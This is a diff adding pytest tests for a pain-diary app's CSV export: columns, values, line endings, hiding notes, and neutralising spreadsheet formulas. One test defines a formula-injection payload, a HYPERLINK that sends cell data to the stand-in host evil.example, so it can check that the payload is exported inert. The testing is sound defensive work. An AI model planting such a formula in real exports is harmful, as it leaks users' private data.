@@ -1,0 +1,123 @@
+"""The CSV exports as a spreadsheet program and Python's csv module read them."""
+
+import csv
+import io
+
+from hypothesis import given
+from hypothesis import strategies as st
+
+from diary import clinical, regions
+from diary.exports import spreadsheet
+
+
+def entry(**changes):
+    row = {
+        "id": "3f2b8c1e-4d5a-4b6c-9e7f-0a1b2c3d4e5f",
+        "day": "2026-03-03",
+        "leg_pain": 6,
+        "back_pain": 3,
+        "worst_leg_pain": None,
+        "regions": {"l_buttock": "pain", "l_calf_back": "pain", "r_foot_top": "numb"},
+        "activities": {"walking": 3, "sitting": 0},
+        "sitting_tolerance_min": 20,
+        "walking_tolerance_min": None,
+        "red_flags": ["leg_weakness"],
+        "note": "",
+        "version": 1,
+        "created_at": "2026-03-03T08:00:00.000Z",
+        "updated_at": "2026-03-03T08:00:00.000Z",
+        "deleted": False,
+    }
+    return {**row, **changes}
+
+
+def read(text):
+    """The rows as a reader of the file gets them (BOM checked and taken off first)."""
+    assert text.startswith("\ufeff")
+    return list(csv.DictReader(io.StringIO(text[1:], newline="")))
+
+
+def test_the_header_names_every_field_region_activity_and_flag():
+    header = next(csv.reader(io.StringIO(spreadsheet.entries_csv([])[1:])))
+    assert header[:5] == ["day", "leg_pain", "back_pain", "worst_leg_pain", "most_distal_level"]
+    assert [h for h in header if h.startswith("region_")] == [
+        f"region_{r.code}" for r in regions.REGIONS
+    ]
+    assert len([h for h in header if h.startswith("region_")]) == 25
+    assert [h for h in header if h.startswith("activity_")] == [
+        f"activity_{a}" for a in clinical.ACTIVITIES
+    ]
+    assert [h for h in header if h.startswith("red_flag_")] == [
+        f"red_flag_{f}" for f in clinical.RED_FLAGS
+    ]
+    assert header[-4:] == ["note", "id", "created_at", "updated_at"]
+
+
+def test_one_row_per_entry_with_its_values():
+    rows = read(spreadsheet.entries_csv([entry(), entry(id="x", day="2026-03-04", leg_pain=2)]))
+    assert len(rows) == 2
+    first = rows[0]
+    assert first["day"] == "2026-03-03" and first["leg_pain"] == "6" and first["back_pain"] == "3"
+    assert first["worst_leg_pain"] == ""  # not answered, not zero
+    assert first["most_distal_level"] == "4"  # the back of the calf; numbness never counts
+    assert first["region_l_calf_back"] == "pain" and first["region_r_foot_top"] == "numb"
+    assert first["region_r_calf_back"] == ""
+    assert first["activity_walking"] == "3" and first["activity_sitting"] == "0"
+    assert first["activity_sleeping"] == ""  # unanswered stays unknown
+    assert first["sitting_tolerance_min"] == "20" and first["walking_tolerance_min"] == ""
+    assert first["red_flag_leg_weakness"] == "yes" and first["red_flag_bladder_bowel"] == "no"
+    assert rows[1]["day"] == "2026-03-04" and rows[1]["leg_pain"] == "2"
+
+
+def test_records_end_with_crlf_as_rfc_4180_says():
+    text = spreadsheet.entries_csv([entry()])
+    assert text.count("\r\n") == 2 and "\n" not in text.replace("\r\n", "")
+
+
+def test_a_formula_in_a_note_is_exported_inert():
+    note = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
+    rows = read(spreadsheet.entries_csv([entry(note=note)]))
+    assert rows[0]["note"] == "'" + note
+
+
+def test_a_note_with_commas_quotes_and_newlines_round_trips():
+    note = 'Walked 2 km, then "sharp" pain,\nslept badly;\r\nbetter by noon: ok'
+    rows = read(spreadsheet.entries_csv([entry(note=note)]))
+    assert rows[0]["note"] == note
+
+
+@given(st.text(max_size=200))
+def test_any_note_reads_back_as_written_or_made_inert(note):
+    rows = read(spreadsheet.entries_csv([entry(note=note)]))
+    read_back = rows[0]["note"]
+    if note.startswith(spreadsheet.FORMULA_STARTS):
+        assert read_back == "'" + note
+    else:
+        assert read_back == note
+    assert not read_back.startswith(spreadsheet.FORMULA_STARTS)
+
+
+def test_without_notes_there_is_no_note_column():
+    text = spreadsheet.entries_csv([entry(note="private")], include_notes=False)
+    assert "note" not in read(text)[0] and "private" not in text
+
+
+def test_therapies_one_row_each_with_the_kind_in_words():
+    therapy = {
+        "id": "5f2b8c1e-4d5a-4b6c-9e7f-0a1b2c3d4e5f",
+        "kind": "physiotherapy",
+        "label": "+2 sessions a week",
+        "start_day": "2026-01-05",
+        "end_day": None,
+        "notes": "@home exercises",
+        "version": 2,
+        "created_at": "2026-01-05T08:00:00.000Z",
+        "updated_at": "2026-01-06T08:00:00.000Z",
+        "deleted": False,
+    }
+    rows = read(spreadsheet.therapies_csv([therapy]))
+    assert list(rows[0]) == spreadsheet.therapy_columns()
+    assert rows[0]["kind_name"] == "Physiotherapy" and rows[0]["end_day"] == ""
+    assert rows[0]["label"] == "'+2 sessions a week" and rows[0]["notes"] == "'@home exercises"
+    hidden = read(spreadsheet.therapies_csv([therapy], include_notes=False))
+    assert "notes" not in hidden[0]
